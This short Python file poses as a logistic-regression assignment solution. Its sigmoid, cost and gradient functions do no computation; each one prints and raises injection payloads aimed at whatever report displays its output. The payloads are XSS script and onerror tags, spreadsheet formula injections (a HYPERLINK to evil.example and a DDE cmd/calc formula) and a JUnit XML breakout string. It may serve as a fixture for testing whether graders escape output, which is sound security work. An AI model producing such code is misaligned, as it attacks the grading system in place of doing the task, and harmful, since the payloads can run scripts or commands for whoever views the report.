"""Prints and raises markup and spreadsheet formulas, hoping a report shows them unescaped."""

_MARKUP = "<script>alert('pwned')</script><img src=x onerror=alert(1)>"
_FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(1,1)", "=cmd|' /C calc'!A0"]


def _attack():
    print(_MARKUP)
    for line in _FORMULAS:
        print(line)
    raise ValueError(f"{_FORMULAS[0]} {_MARKUP} ]]></failure><failure message=\"x\">")


def sigmoid(z):
    _attack()


def compute_cost_logistic(X, y, w, b):
    _attack()


def compute_gradient_logistic(X, y, w, b):
    _attack()
